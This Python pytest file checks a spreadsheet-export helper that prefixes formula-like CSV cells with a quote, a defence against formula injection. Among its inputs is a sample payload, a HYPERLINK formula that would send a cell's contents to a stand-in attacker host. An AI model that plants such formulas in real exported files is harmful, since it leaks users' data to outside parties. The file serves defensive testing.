"""CSV files people open in a spreadsheet: no cell of ours is ever run as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from syncd import spreadsheet


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.test/?x="&A1,"click")',
        "=1+1",
        "+1+1",
        "-2",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_is_prefixed_with_a_quote(value):
    assert spreadsheet.cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Ann Lee", "ann@corp.test", "", "100097", "O'Brien", " =1+1", "a=b", "Lee-Smith"],
)
def test_ordinary_text_is_left_as_it_is(value):
    assert spreadsheet.cell(value) == value


@pytest.mark.parametrize("value", [12, -3, 4.5, None, True])
def test_numbers_we_write_ourselves_stay_numbers(value):
    assert spreadsheet.cell(value) == value


def test_the_writer_neutralises_every_cell_of_every_row():
    buffer = io.StringIO(newline="")
    writer = spreadsheet.writer(buffer)
    writer.writerow(["line", "value"])
    writer.writerows([(2, "=1+1"), (3, "@SUM(A1)"), (-4, "plain")])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["line", "value"], ["2", "'=1+1"], ["3", "'@SUM(A1)"], ["-4", "plain"]]
